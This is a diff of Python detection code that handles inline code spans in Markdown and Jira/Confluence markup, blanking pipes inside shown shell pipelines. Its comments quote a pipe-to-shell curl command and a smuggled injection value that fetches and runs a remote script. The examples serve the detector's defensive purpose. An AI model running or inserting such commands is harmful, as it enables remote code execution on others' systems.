@@ -2273,16 +2273,17 @@ _SENTENCE_ENDS: Final = (".", "!", "?", "\u3002", "\uff01", "\uff1f")
 _EMOJI_END: Final = re.compile(r"[\u2600-\u27bf\U0001f300-\U0001faff][\ufe0f\s]*$")
 
 
-def _inline_code(text: str) -> bool:
+def _inline_code(text: str, spanned: re.Pattern[str] = _CODE_SPAN, mark: str = "`") -> bool:
     """Whether the backquotes of `text` are Markdown's inline code in sentences: on each
     line with a span, three words outside the spans, or one where the line ends as a
     sentence or a chat's line does ("Run `npm start`.", "Try `git pull` first.", under a
-    README's heading; "ran `docker ps` and 👍")."""
-    if "`" not in text:
+    README's heading; "ran `docker ps` and 👍"). With `spanned` and its `mark`, another
+    markup's inline code (`_MONOSPACE_SPAN`)."""
+    if mark not in text:
         return False
     for line in text.split("\n"):
-        spans = "`" in line
-        outside = _CODE_SPAN.sub(" ", line) if spans else line
+        spans = mark in line
+        outside = spanned.sub(" ", line) if spans else line
         if "<" in outside:
             outside = _CHAT_ENTITY.sub(" ", outside)
         if _SHELL_SYNTAX.search(outside):
@@ -2296,11 +2297,14 @@ def _inline_code(text: str) -> bool:
 
 
 def _inline_pipes_blanked(text: str) -> str:
-    """`text` with the pipes in its Markdown inline code blanked (`_inline_code`), or as it
-    is; the same length."""
-    if not _inline_code(text):
-        return text
-    return _CODE_SPAN.sub(_pipes_blanked, text)
+    """`text` with the pipes in its Markdown inline code blanked (`_inline_code`), or in
+    Jira's and Confluence's monospace (`{{curl … | sh}}`) in sentences, or as it is; the
+    same length."""
+    if _inline_code(text):
+        text = _CODE_SPAN.sub(_pipes_blanked, text)
+    if "{{" in text and _inline_code(text, _MONOSPACE_SPAN, "{{"):
+        text = _MONOSPACE_SPAN.sub(_pipes_blanked, text)
+    return text
 
 
 def _pipes_blanked(span: re.Match[str]) -> str:
@@ -2309,9 +2313,14 @@ def _pipes_blanked(span: re.Match[str]) -> str:
     return shown.replace("|", " ") if _SHOWN_PIPELINE.fullmatch(shown) else shown
 
 
+# Jira's and Confluence's wiki markup for monospace, inline: "run {{kubectl get pods}}".
+_MONOSPACE_SPAN: Final = re.compile(r"\{\{[^{}\n]{1,200}\}\}")
 # A span that is one pipeline shown, opening with a program's name: `curl -fsSL URL | sh`,
-# not a value with a separator before it (`a;curl http://203.0.113.5/x.sh|sh`).
-_SHOWN_PIPELINE: Final = re.compile(r"`[a-z][\w.-]*[ \t][^`;&$\n]*`;?")
+# {{curl -fsSL URL | sh}}, not a value with a separator before it
+# (`a;curl http://203.0.113.5/x.sh|sh`).
+_SHOWN_PIPELINE: Final = re.compile(
+    r"`[a-z][\w.-]*[ \t][^`;&$\n]*`;?|\{\{[a-z][\w.-]*[ \t][^{}`;&$\n]*\}\}"
+)
 
 
 # Markdown's inline code in a document, wrapped over a line break or not: "the npm CLI's
